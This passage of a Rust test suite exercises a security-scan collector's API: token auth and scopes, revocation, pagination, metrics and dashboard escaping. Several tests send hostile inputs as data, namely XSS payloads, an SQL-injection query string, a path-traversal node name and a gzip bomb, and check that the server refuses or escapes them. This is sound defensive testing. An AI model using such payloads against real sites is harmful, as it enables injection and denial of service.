//! In-process tests of the API: every route, every refusal, on an in-memory store. The store
//! itself is tested on every backend by tests/collector_storage.rs.

use crate::api::router;
use crate::app::App;
use crate::auth::{self, Role};
use crate::store::{Store, TokenSpec};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use nodecheck_report::*;
use std::io::Write;
use std::sync::Arc;
use tower::ServiceExt;

struct Fixture {
    app: Arc<App>,
    agent: String,
    scoped: String,
    viewer: String,
    admin: String,
}

fn fixture(anonymous_read: bool) -> Fixture {
    let store = Store::in_memory().expect("store");
    let create = |role: Role, name: &str, cluster: Option<&str>, nodes: Option<&str>| {
        let spec = TokenSpec {
            role: role.as_str().into(),
            name: name.into(),
            scope_cluster: cluster.map(String::from),
            scope_nodes: nodes.map(String::from),
            expires_at: None,
            max_nodes: None,
            uses: None,
        };
        auth::create(&store, &spec, 0).expect("token").1
    };
    let agent = create(Role::Agent, "agents", None, None);
    let scoped = create(Role::Agent, "prod-web", Some("prod"), Some("web-*"));
    let viewer = create(Role::Viewer, "viewer", None, None);
    let admin = create(Role::Admin, "admin", None, None);
    Fixture {
        app: Arc::new(App::new(store, anonymous_read)),
        agent,
        scoped,
        viewer,
        admin,
    }
}

#[path = "../../tests/support/report.rs"]
mod sample;
use sample::finding;

fn report(id: &str, cluster: &str, name: &str, failing: bool) -> Report {
    let findings = vec![
        finding(
            "sshd.permit-root-login",
            Severity::High,
            if failing { Status::Fail } else { Status::Pass },
            "PermitRootLogin is yes",
        ),
        finding(
            "kubelet.anonymous-auth",
            Severity::Critical,
            Status::Pass,
            "off",
        ),
    ];
    sample::report(id, cluster, name, findings)
}

async fn call(app: &Arc<App>, request: Request<Body>) -> (StatusCode, String) {
    let response = router(app.clone())
        .oneshot(request)
        .await
        .expect("response");
    let status = response.status();
    let body = response
        .into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes();
    (status, String::from_utf8_lossy(&body).into_owned())
}

fn post(token: Option<&str>, body: Vec<u8>, gzip: bool) -> Request<Body> {
    let mut r = Request::post("/api/v1/reports").header("content-type", "application/json");
    if let Some(t) = token {
        r = r.header("authorization", format!("Bearer {t}"));
    }
    if gzip {
        r = r.header("content-encoding", "gzip");
    }
    r.body(Body::from(body)).expect("request")
}

fn get(path: &str, token: Option<&str>) -> Request<Body> {
    let mut r = Request::get(path);
    if let Some(t) = token {
        r = r.header("authorization", format!("Bearer {t}"));
    }
    r.body(Body::empty()).expect("request")
}

fn json(r: &Report) -> Vec<u8> {
    serde_json::to_vec(r).expect("json")
}

#[tokio::test]
async fn ingest_is_authenticated_scoped_and_idempotent() {
    let f = fixture(false);
    let r = report("01AAA", "prod", "web-1", true);
    assert_eq!(
        call(&f.app, post(None, json(&r), false)).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        call(&f.app, post(Some(&f.viewer), json(&r), false)).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        call(&f.app, post(Some("nct_bogus"), json(&r), false))
            .await
            .0,
        StatusCode::UNAUTHORIZED
    );
    let (status, body) = call(&f.app, post(Some(&f.scoped), json(&r), false)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = call(&f.app, post(Some(&f.agent), json(&r), false)).await;
    assert_eq!(
        (status, body.contains("duplicate")),
        (StatusCode::OK, true),
        "{body}"
    );
    let outside = report("01AAB", "prod", "db-1", false);
    let (status, body) = call(&f.app, post(Some(&f.scoped), json(&outside), false)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(body.contains("may not post for prod/db-1"), "{body}");
    // Gzip is accepted.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&json(&report("01AAC", "prod", "web-2", false)))
        .expect("gzip");
    let (status, _) = call(
        &f.app,
        post(Some(&f.agent), gz.finish().expect("gzip"), true),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    // Revoked tokens stop working.
    let id = f
        .app
        .store
        .tokens()
        .expect("tokens")
        .iter()
        .find(|t| t.name == "agents")
        .map(|t| t.id)
        .expect("id");
    assert!(f.app.store.revoke_token(id, 1).expect("revoke"));
    let (status, body) = call(
        &f.app,
        post(
            Some(&f.agent),
            json(&report("01AAD", "prod", "web-3", false)),
            false,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("revoked"), "{body}");
}

#[tokio::test]
async fn hostile_input_is_refused_precisely_and_nothing_is_stored() {
    let f = fixture(false);
    let good = report("01BBB", "prod", "web-1", false);
    let mut wrong_type = serde_json::to_value(&good).expect("value");
    wrong_type["duration_ms"] = serde_json::json!("soon");
    let mut unknown_schema = serde_json::to_value(&good).expect("value");
    unknown_schema["schema"] = serde_json::json!("nodecheck.report/v9");
    let traversal = report("01BBC", "prod", "../../etc", false);
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    bomb.write_all(&vec![b' '; 64 * 1024 * 1024]).expect("bomb");
    let bomb = bomb.finish().expect("bomb");
    let mut nul = report("01BBD", "prod", "web-1", false);
    nul.findings[0].message = "a\u{0}b".into();
    // The attacks of issue 12: a look-alike name, a 30 MiB version, a node never stale, more
    // findings than any scan makes.
    let look_alike = report("01BBF", "prod", "web\u{202E}1", false);
    let mut huge_version = report("01BBG", "prod", "web-1", false);
    huge_version.agent.version = "1".repeat(30 * 1024 * 1024);
    let mut forever = report("01BBH", "prod", "web-1", false);
    forever.agent.interval_s = Some(u64::MAX);
    let mut too_many = report("01BBI", "prod", "web-1", false);
    too_many.findings = (0..2049)
        .map(|i| {
            let mut f = too_many.findings[0].clone();
            f.id = format!("x.check-{i}");
            f
        })
        .collect();
    let mut repeated = report("01BBE", "prod", "web-1", false);
    repeated.findings[1].id = repeated.findings[0].id.clone();
    let cases: Vec<(Vec<u8>, bool, StatusCode, &str)> = vec![
        (
            json(&nul),
            false,
            StatusCode::BAD_REQUEST,
            "`findings[0].message` must not hold a NUL character",
        ),
        (
            json(&repeated),
            false,
            StatusCode::BAD_REQUEST,
            "`findings[1].id` repeats",
        ),
        (
            b"{not json".to_vec(),
            false,
            StatusCode::BAD_REQUEST,
            "not valid JSON",
        ),
        (
            serde_json::to_vec(&wrong_type).expect("json"),
            false,
            StatusCode::BAD_REQUEST,
            "at `duration_ms`: invalid type: string",
        ),
        (
            serde_json::to_vec(&unknown_schema).expect("json"),
            false,
            StatusCode::BAD_REQUEST,
            "this collector accepts",
        ),
        (
            json(&traversal),
            false,
            StatusCode::BAD_REQUEST,
            "`node.name` must be a DNS-1123 subdomain",
        ),
        (
            json(&look_alike),
            false,
            StatusCode::BAD_REQUEST,
            "`node.name` must be a DNS-1123 subdomain",
        ),
        (
            {
                let mut gzip =
                    flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
                gzip.write_all(&json(&huge_version)).expect("gzip");
                gzip.finish().expect("gzip")
            },
            true,
            StatusCode::BAD_REQUEST,
            "`agent.version` must be 1 to 64",
        ),
        (
            json(&forever),
            false,
            StatusCode::BAD_REQUEST,
            "`agent.interval_s` must be 1 to 604800 seconds",
        ),
        (
            json(&too_many),
            false,
            StatusCode::BAD_REQUEST,
            "`findings` has 2049 entries; at most 2048",
        ),
        (
            vec![b'{'; 100 * 1024 * 1024],
            false,
            StatusCode::PAYLOAD_TOO_LARGE,
            "",
        ),
        (
            bomb,
            true,
            StatusCode::PAYLOAD_TOO_LARGE,
            "decompressed report is larger",
        ),
        (
            b"\x1f\x8b garbage".to_vec(),
            true,
            StatusCode::BAD_REQUEST,
            "not valid gzip",
        ),
    ];
    for (body, gzip, expected, message) in cases {
        let (status, text) = call(&f.app, post(Some(&f.agent), body, gzip)).await;
        assert_eq!(status, expected, "{text}");
        assert!(text.contains(message), "{message} in {text}");
    }
    assert_eq!(
        f.app.store.report_count().expect("count"),
        0,
        "nothing stored"
    );
    // The server is unaffected.
    assert_eq!(
        call(&f.app, post(Some(&f.agent), json(&good), false))
            .await
            .0,
        StatusCode::CREATED
    );
}

#[tokio::test]
async fn reads_aggregates_csv_and_metrics() {
    let f = fixture(false);
    for (i, (name, failing)) in [("web-1", true), ("web-2", false), ("db-1", true)]
        .iter()
        .enumerate()
    {
        let r = report(&format!("01C{i}"), "prod", name, *failing);
        assert_eq!(
            call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
            StatusCode::CREATED
        );
    }
    // web-1 is fixed: the failing count follows.
    assert_eq!(
        call(
            &f.app,
            post(
                Some(&f.agent),
                json(&report("01C9", "prod", "web-1", false)),
                false
            )
        )
        .await
        .0,
        StatusCode::CREATED
    );
    assert_eq!(
        call(&f.app, get("/api/v1/summary", None)).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        call(&f.app, get("/api/v1/summary", Some(&f.agent))).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, body) = call(&f.app, get("/api/v1/summary", Some(&f.viewer))).await;
    assert_eq!(status, StatusCode::OK);
    let summary: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(summary["nodes"], 3);
    assert_eq!(
        summary["score_distribution"]
            .as_array()
            .map(|d| d.iter().filter_map(|v| v.as_i64()).sum::<i64>()),
        Some(3)
    );
    let (_, body) = call(
        &f.app,
        get("/api/v1/checks/sshd.permit-root-login", Some(&f.viewer)),
    )
    .await;
    let check: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(check["check"]["failing_nodes"], 1, "{body}");
    assert_eq!(check["failing_nodes"][0]["name"], "db-1");
    let (_, body) = call(&f.app, get("/api/v1/nodes?limit=2", Some(&f.viewer))).await;
    let page: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(page["nodes"].as_array().map(Vec::len), Some(2));
    let cursor = page["next_cursor"].as_str().expect("cursor").to_string();
    let (_, body) = call(
        &f.app,
        get(
            &format!("/api/v1/nodes?limit=2&cursor={cursor}"),
            Some(&f.viewer),
        ),
    )
    .await;
    let next: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(next["nodes"].as_array().map(Vec::len), Some(1));
    let (status, body) = call(
        &f.app,
        get(
            "/api/v1/nodes?cluster=x%27%20OR%201%3D1%20--",
            Some(&f.viewer),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        body.contains("\"nodes\":[]"),
        "SQL-looking values are only values: {body}"
    );
    let (status, body) = call(&f.app, get("/api/v1/nodes/prod/web-1", Some(&f.viewer))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        body.contains("\"score_history\"") && body.contains("01C9"),
        "{body}"
    );
    assert_eq!(
        call(&f.app, get("/api/v1/nodes/prod/nope", Some(&f.viewer)))
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    let (_, csv) = call(&f.app, get("/api/v1/nodes.csv", Some(&f.viewer))).await;
    assert!(
        csv.starts_with("cluster,name,") && csv.lines().count() == 4,
        "{csv}"
    );
    let (_, metrics) = call(&f.app, get("/metrics", Some(&f.viewer))).await;
    assert!(
        metrics.contains("nodecheck_nodes 3")
            && metrics
                .contains("nodecheck_check_failing_nodes{check=\"sshd.permit-root-login\",severity=\"high\"} 1")
            && metrics.ends_with("# EOF\n"),
        "{metrics}"
    );
    // Four reports stored and acknowledged; the latency histogram is cumulative and ends in
    // +Inf with every observation.
    for line in [
        "nodecheck_reports_stored 4\n",
        "nodecheck_ingest_total{outcome=\"stored\"} 4\n",
        "# TYPE nodecheck_ingest_duration_seconds histogram\n",
        "nodecheck_ingest_duration_seconds_bucket{le=\"+Inf\"} 4\n",
        "nodecheck_ingest_duration_seconds_count 4\n",
    ] {
        assert!(metrics.contains(line), "{line} in {metrics}");
    }
    let buckets: Vec<u64> = metrics
        .lines()
        .filter(|l| l.starts_with("nodecheck_ingest_duration_seconds_bucket"))
        .filter_map(|l| l.rsplit(' ').next()?.parse().ok())
        .collect();
    assert_eq!(buckets.len(), 11);
    assert!(buckets.windows(2).all(|w| w[0] <= w[1]), "{buckets:?}");
    assert_eq!(call(&f.app, get("/healthz", None)).await.0, StatusCode::OK);
    assert_eq!(call(&f.app, get("/readyz", None)).await.0, StatusCode::OK);
    let open = fixture(true);
    assert_eq!(
        call(&open.app, get("/api/v1/summary", None)).await.0,
        StatusCode::OK,
        "--anonymous-read"
    );
}

fn form_login(token: &str) -> Request<Body> {
    Request::post("/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Body::from(format!("token={token}")))
        .expect("request")
}

#[tokio::test]
async fn dashboard_needs_a_session_and_escapes_everything_from_nodes() {
    let f = fixture(false);
    // Node names are DNS names (the report format refuses anything else); what a node sends
    // as text is still escaped everywhere it shows.
    let hostile = "<img src=x onerror=alert(1)>";
    let mut r = report("01DDD", "prod", "web-x", true);
    r.findings[0].title = hostile.into();
    r.findings[0].message = "<script>alert('m')</script>".into();
    r.findings[0].evidence.push(Evidence {
        subject: "\"><svg onload=alert(2)>".into(),
        observed: Some("<b>bold</b>".into()),
        expected: "no".into(),
        status: Status::Fail,
        source: Source::file("/etc/<x>", Some(1)),
        note: Some("<i>".into()),
    });
    assert_eq!(
        call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
        StatusCode::CREATED
    );
    // Not logged in: to the login form.
    let response = router(f.app.clone())
        .oneshot(get("/", None))
        .await
        .expect("response");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    // An agent token cannot log in; a viewer token gets a strict session cookie.
    assert_eq!(
        call(&f.app, form_login(&f.agent)).await.0,
        StatusCode::FORBIDDEN
    );
    let response = router(f.app.clone())
        .oneshot(form_login(&f.viewer))
        .await
        .expect("response");
    let cookie = response
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .expect("cookie")
        .to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let session = cookie.split(';').next().expect("pair").to_string();
    let with_cookie = |path: &str| {
        Request::get(path)
            .header("cookie", session.clone())
            .body(Body::empty())
            .expect("request")
    };
    let (status, html) = call(&f.app, with_cookie("/")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("Fleet score") && html.contains("<svg"),
        "overview renders"
    );
    let (status, html) = call(&f.app, with_cookie("/nodes/prod/web-x")).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    let (_, overview) = call(&f.app, with_cookie("/")).await;
    let (_, check) = call(&f.app, with_cookie("/checks/sshd.permit-root-login")).await;
    // A second report with hostile text in what the change and drift pages show.
    let mut next = report("01DDE", "prod", "web-x", false);
    next.findings[0].message = "<script>alert('n')</script>".into();
    next.agent.version = "0.2.0+evil".into();
    next.settings.insert(
        "kubelet:<img src=x onerror=alert(3)>".into(),
        Some("<b>bold</b>".into()),
    );
    assert_eq!(
        call(&f.app, post(Some(&f.agent), json(&next), false))
            .await
            .0,
        StatusCode::CREATED
    );
    let (status, changes) = call(&f.app, with_cookie("/changes?node=web-x&cluster=prod")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(changes.contains("sshd.permit-root-login"), "{changes}");
    for (id, name) in [("01DDF", "web-y"), ("01DDG", "web-z")] {
        let mut peer = report(id, "prod", name, false);
        peer.settings.insert(
            "kubelet:<img src=x onerror=alert(3)>".into(),
            Some("0".into()),
        );
        call(&f.app, post(Some(&f.agent), json(&peer), false)).await;
    }
    let (status, drift) = call(&f.app, with_cookie("/drift?setting=kubelet%3A%3Cimg")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        drift.contains("kubelet:&lt;img src=x onerror=alert(3)&gt;")
            && drift.contains("&lt;b&gt;bold&lt;/b&gt;")
            && drift.contains(r#"<a href="/nodes/prod/web-x">web-x</a>"#),
        "{drift}"
    );
    let (_, node_after) = call(&f.app, with_cookie("/nodes/prod/web-x")).await;
    assert!(
        node_after.contains(
            "sshd.permit-root-login</code></a> <span class=\"sev high\">high</span> fail → pass"
        ),
        "{node_after}"
    );
    let (_, overview_after) = call(&f.app, with_cookie("/")).await;
    assert!(
        overview_after.contains("Recent changes"),
        "{overview_after}"
    );
    for page in [
        &html,
        &overview,
        &check,
        &changes,
        &drift,
        &node_after,
        &overview_after,
    ] {
        assert!(
            !page.contains("<img src=x")
                && !page.contains("<script>alert")
                && !page.contains("<svg onload")
                && !page.contains("<b>bold"),
            "unescaped: {page}"
        );
    }
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;") && html.contains("&lt;script&gt;"),
        "{html}"
    );
    assert!(check.contains("/nodes/prod/web-x"), "{check}");
    // Revoking the viewer token (here as the command line does, straight in the store) ends
    // its session on the next page.
    let viewer_id = f
        .app
        .store
        .find_token(&auth::hash(&f.viewer))
        .expect("find")
        .expect("viewer")
        .id;
    assert!(f.app.store.revoke_token(viewer_id, 1).expect("revoke"));
    assert_eq!(
        call(&f.app, with_cookie("/")).await.0,
        StatusCode::SEE_OTHER,
        "a revoked token's session no longer opens pages"
    );
}

fn admin_request(method: &str, path: &str, token: &str, body: &str) -> Request<Body> {
    Request::builder()
        .method(method)
        .uri(path)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .expect("request")
}

#[tokio::test]
async fn admins_manage_tokens_and_expired_or_revoked_tokens_are_refused() {
    let f = fixture(false);
    let admin = {
        let spec = TokenSpec {
            role: "admin".into(),
            name: "ops".into(),
            ..TokenSpec::default()
        };
        auth::create(&f.app.store, &spec, 0).expect("admin").1
    };
    // Only admins manage tokens.
    for (token, expected) in [
        (&f.viewer, StatusCode::FORBIDDEN),
        (&f.agent, StatusCode::FORBIDDEN),
    ] {
        let (status, body) = call(&f.app, get("/api/v1/tokens", Some(token))).await;
        assert_eq!(status, expected, "{body}");
    }
    assert_eq!(
        call(&f.app, get("/api/v1/tokens", None)).await.0,
        StatusCode::UNAUTHORIZED
    );
    // Bad specs are refused with the reason, and create nothing.
    for (body, message) in [
        (r#"{"role":"root","name":"x"}"#, "unknown role"),
        (
            r#"{"role":"viewer","name":"x","cluster":"prod"}"#,
            "cannot be scoped",
        ),
        (
            r#"{"role":"agent","name":"x","expires_in_days":0}"#,
            "1 to 3650",
        ),
        (
            r#"{"role":"agent","name":"x","admin":true}"#,
            "unknown field",
        ),
        (r#"{"role":"agent"}"#, "missing field `name`"),
    ] {
        let (status, text) = call(
            &f.app,
            admin_request("POST", "/api/v1/tokens", &admin, body),
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {text}");
        assert!(text.contains(message), "{message} in {text}");
    }
    // A scoped, expiring agent token: shown once, works within its scope.
    let (status, text) = call(
        &f.app,
        admin_request(
            "POST",
            "/api/v1/tokens",
            &admin,
            r#"{"role":"agent","name":"staging nodes","cluster":"staging","nodes":"node-*","expires_in_days":30}"#,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{text}");
    let created: serde_json::Value = serde_json::from_str(&text).expect("json");
    let secret = created["token"].as_str().expect("secret").to_string();
    let id = created["id"].as_i64().expect("id");
    let r = report("01T1", "staging", "node-1", false);
    assert_eq!(
        call(&f.app, post(Some(&secret), json(&r), false)).await.0,
        StatusCode::CREATED
    );
    let outside = report("01T2", "prod", "node-1", false);
    assert_eq!(
        call(&f.app, post(Some(&secret), json(&outside), false))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    // The list never shows a secret or a hash.
    let (_, list) = call(&f.app, get("/api/v1/tokens", Some(&admin))).await;
    assert!(list.contains("staging nodes") && list.contains("\"state\":\"live\""));
    assert!(!list.contains(&secret) && !list.contains(&auth::hash(&secret)));
    // Revoked: refused, and revoking again is a 404.
    let path = format!("/api/v1/tokens/{id}");
    assert_eq!(
        call(&f.app, admin_request("DELETE", &path, &admin, ""))
            .await
            .0,
        StatusCode::NO_CONTENT
    );
    let (status, text) = call(&f.app, post(Some(&secret), json(&r), false)).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(text.contains("token revoked"), "{text}");
    assert_eq!(
        call(&f.app, admin_request("DELETE", &path, &admin, ""))
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        call(
            &f.app,
            admin_request("DELETE", "/api/v1/tokens/x", &admin, "")
        )
        .await
        .0,
        StatusCode::BAD_REQUEST
    );
    // Expired (stored directly: the API refuses expiries in the past).
    let expired = "nct_expired_for_the_test";
    f.app
        .store
        .add_token(
            &auth::hash(expired),
            &TokenSpec {
                role: "viewer".into(),
                name: "old".into(),
                expires_at: Some(1_000),
                ..TokenSpec::default()
            },
            0,
        )
        .expect("token");
    let (status, text) = call(&f.app, get("/api/v1/summary", Some(expired))).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        text.contains("token expired at 1970-01-01T00:16:40"),
        "{text}"
    );
    assert_eq!(f.app.store.report_count().expect("count"), 1);
}

#[tokio::test]
async fn nodes_sort_and_paginate_without_losing_or_repeating_a_node() {
    let f = fixture(false);
    // Scores tie (every failing node has the same score), so the cursor must break ties.
    for i in 0..23 {
        let r = report(
            &format!("01S{i:02}"),
            "prod",
            &format!("n{i:02}"),
            i % 3 == 0,
        );
        assert_eq!(
            call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
            StatusCode::CREATED
        );
    }
    for sort in ["name", "score", "-score", "last_seen"] {
        let mut seen: Vec<(i64, String)> = Vec::new();
        let mut cursor: Option<String> = None;
        for _ in 0..10 {
            let mut path = format!("/api/v1/nodes?limit=5&sort={sort}");
            if let Some(c) = &cursor {
                path.push_str(&format!("&cursor={}", crate::web::seg(c)));
            }
            let (status, text) = call(&f.app, get(&path, Some(&f.viewer))).await;
            assert_eq!(status, StatusCode::OK, "{path}: {text}");
            let page: serde_json::Value = serde_json::from_str(&text).expect("json");
            for node in page["nodes"].as_array().expect("nodes") {
                seen.push((
                    node["score"].as_i64().expect("score"),
                    node["name"].as_str().expect("name").to_string(),
                ));
            }
            match page["next_cursor"].as_str() {
                Some(c) => cursor = Some(c.to_string()),
                None => break,
            }
        }
        let mut names: Vec<&String> = seen.iter().map(|(_, n)| n).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 23, "{sort}: every node once: {seen:?}");
        assert_eq!(seen.len(), 23, "{sort}: no node twice");
        let scores: Vec<i64> = seen.iter().map(|(s, _)| *s).collect();
        match sort {
            "score" => assert!(scores.windows(2).all(|w| w[0] <= w[1]), "{scores:?}"),
            "-score" => assert!(scores.windows(2).all(|w| w[0] >= w[1]), "{scores:?}"),
            _ => {}
        }
    }
    for (path, message) in [
        (
            "/api/v1/nodes?sort=height",
            "expected one of name, score, -score, last_seen",
        ),
        ("/api/v1/nodes?sort=score&cursor=prod/n01", "next_cursor"),
        ("/api/v1/nodes?clutser=prod", "unknown field `clutser`"),
        ("/api/v1/nodes?limit=abc", "bad query string: limit"),
    ] {
        let (status, text) = call(&f.app, get(path, Some(&f.viewer))).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {text}");
        assert!(text.contains(message), "{message} in {text}");
        let error: serde_json::Value = serde_json::from_str(&text).expect("a JSON error");
        assert!(error["error"].is_string(), "{text}");
    }
    // Authentication comes first: no token, no word about the query.
    assert_eq!(
        call(&f.app, get("/api/v1/nodes?clutser=prod", None))
            .await
            .0,
        StatusCode::UNAUTHORIZED
    );
}

/// docs/collector-api.openapi.json stays true: every documented operation is routed, and the
/// documented node fields are the ones the API returns.
#[tokio::test]
async fn the_openapi_document_matches_the_router() {
    let doc: serde_json::Value =
        serde_json::from_str(include_str!("../../docs/collector-api.openapi.json"))
            .expect("the OpenAPI document is JSON");
    let f = fixture(false);
    let admin = {
        let spec = TokenSpec {
            role: "admin".into(),
            name: "docs".into(),
            ..TokenSpec::default()
        };
        auth::create(&f.app.store, &spec, 0).expect("admin").1
    };
    let r = report("01D1", "prod", "web-1", true);
    assert_eq!(
        call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
        StatusCode::CREATED
    );
    let paths = doc["paths"].as_object().expect("paths");
    assert!(paths.len() >= 12, "every endpoint is documented");
    for (path, operations) in paths {
        let concrete = path
            .replace("{cluster}", "prod")
            .replace("{name}", "web-1")
            .replace(
                "{id}",
                if path.contains("tokens") {
                    "999"
                } else {
                    "sshd.permit-root-login"
                },
            );
        for method in operations.as_object().expect("operations").keys() {
            let body = if concrete.ends_with("/reports") {
                String::from_utf8(json(&r)).expect("utf-8")
            } else {
                String::new()
            };
            let request = admin_request(&method.to_uppercase(), &concrete, &admin, &body);
            let (status, text) = call(&f.app, request).await;
            assert_ne!(
                status,
                StatusCode::METHOD_NOT_ALLOWED,
                "{method} {path} is documented but not routed"
            );
            assert!(
                !(status == StatusCode::NOT_FOUND && text.is_empty()),
                "{method} {path} is documented but not routed"
            );
        }
    }
    let (_, text) = call(&f.app, get("/api/v1/nodes", Some(&f.viewer))).await;
    let page: serde_json::Value = serde_json::from_str(&text).expect("json");
    let mut returned: Vec<&String> = page["nodes"][0]
        .as_object()
        .expect("a node")
        .keys()
        .collect();
    let mut documented: Vec<&String> = doc["components"]["schemas"]["Node"]["properties"]
        .as_object()
        .expect("Node")
        .keys()
        .collect();
    returned.sort();
    documented.sort();
    assert_eq!(returned, documented, "Node fields in the document");
    let (_, text) = call(&f.app, get("/api/v1/checks", Some(&f.viewer))).await;
    let listed: serde_json::Value = serde_json::from_str(&text).expect("json");
    let mut returned: Vec<&String> = listed["checks"][0]
        .as_object()
        .expect("a check")
        .keys()
        .collect();
    let mut documented: Vec<&String> = doc["components"]["schemas"]["Check"]["properties"]
        .as_object()
        .expect("Check")
        .keys()
        .collect();
    returned.sort();
    documented.sort();
    assert_eq!(returned, documented, "Check fields in the document");
    // A second report makes changes; a minority value makes drift.
    let mut again = report("01D2", "prod", "web-1", false);
    again
        .settings
        .insert("kubelet:readOnlyPort".into(), Some("0".into()));
    for (id, name, port) in [("01D3", "web-2", "10255"), ("01D4", "web-3", "0")] {
        let mut other = report(id, "prod", name, false);
        other
            .settings
            .insert("kubelet:readOnlyPort".into(), Some(port.into()));
        call(&f.app, post(Some(&f.agent), json(&other), false)).await;
    }
    call(&f.app, post(Some(&f.agent), json(&again), false)).await;
    for (path, list, schema) in [
        ("/api/v1/changes", "changes", "Change"),
        ("/api/v1/drift", "drift", "Drift"),
    ] {
        let (_, text) = call(&f.app, get(path, Some(&f.viewer))).await;
        let listed: serde_json::Value = serde_json::from_str(&text).expect("json");
        let mut returned: Vec<&String> = listed[list][0]
            .as_object()
            .unwrap_or_else(|| panic!("{path}: {text}"))
            .keys()
            .collect();
        let mut documented: Vec<&String> = doc["components"]["schemas"][schema]["properties"]
            .as_object()
            .expect(schema)
            .keys()
            .collect();
        returned.sort();
        documented.sort();
        assert_eq!(returned, documented, "{schema} fields in the document");
    }
}

#[tokio::test]
async fn changes_and_drift_are_read_with_filters_and_bad_ones_are_named() {
    let f = fixture(false);
    for (id, failing) in [("01C1", false), ("01C2", true)] {
        let r = report(id, "prod", "web-1", failing);
        assert_eq!(
            call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
            StatusCode::CREATED
        );
    }
    assert_eq!(
        call(&f.app, get("/api/v1/changes", None)).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        call(&f.app, get("/api/v1/drift", Some(&f.agent))).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, text) = call(
        &f.app,
        get(
            "/api/v1/changes?direction=worse&since=1h&cluster=prod&limit=1",
            Some(&f.viewer),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let page: serde_json::Value = serde_json::from_str(&text).expect("json");
    assert_eq!(page["changes"].as_array().map(Vec::len), Some(1));
    let cursor = page["next_cursor"]
        .as_str()
        .expect("a next page")
        .to_string();
    let (_, text) = call(
        &f.app,
        get(
            &format!("/api/v1/changes?direction=worse&cursor={cursor}"),
            Some(&f.viewer),
        ),
    )
    .await;
    let next: serde_json::Value = serde_json::from_str(&text).expect("json");
    let kinds: Vec<&str> = page["changes"]
        .as_array()
        .into_iter()
        .chain(next["changes"].as_array())
        .flatten()
        .filter_map(|c| c["kind"].as_str())
        .collect();
    assert_eq!(kinds, ["check", "score"], "newest first, every one once");
    for (query, says) in [
        ("direction=sideways", "unknown direction \"sideways\""),
        ("severity=urgent", "unknown severity \"urgent\""),
        ("kind=mood", "unknown kind \"mood\""),
        ("since=yesterday", "since \"yesterday\" must be"),
        ("since=1%C3%A9", "since \"1é\" must be"),
        ("node=web-1", "node needs cluster"),
        ("cursor=abc", "cursor must be"),
        ("colour=red", "unknown field `colour`"),
    ] {
        let (status, text) = call(
            &f.app,
            get(&format!("/api/v1/changes?{query}"), Some(&f.viewer)),
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        let error: serde_json::Value = serde_json::from_str(&text).expect("json");
        assert!(
            error["error"].as_str().is_some_and(|e| e.contains(says)),
            "{query}: {text}"
        );
    }
    let (status, text) = call(&f.app, get("/api/v1/drift?node=web-1", Some(&f.viewer))).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(text.contains("node needs cluster"), "{text}");
    let (status, text) = call(
        &f.app,
        get("/api/v1/drift?cluster=prod&node=web-1", Some(&f.viewer)),
    )
    .await;
    assert_eq!((status, text.as_str()), (StatusCode::OK, r#"{"drift":[]}"#));
}

/// A check page has what it needs without opening reports: the rationale and remediation
/// the agent sent, and each failing node's own evidence, kept current when only it changes.
#[tokio::test]
async fn check_detail_carries_rationale_remediation_and_each_nodes_evidence() {
    let f = fixture(false);
    let with_evidence = |id: &str, observed: &str| {
        let mut r = report(id, "prod", "web-1", true);
        r.findings[0].rationale = "Root logins skip the audit trail of personal accounts.".into();
        r.findings[0].evidence = vec![Evidence {
            subject: "PermitRootLogin".into(),
            observed: Some(observed.into()),
            expected: "no".into(),
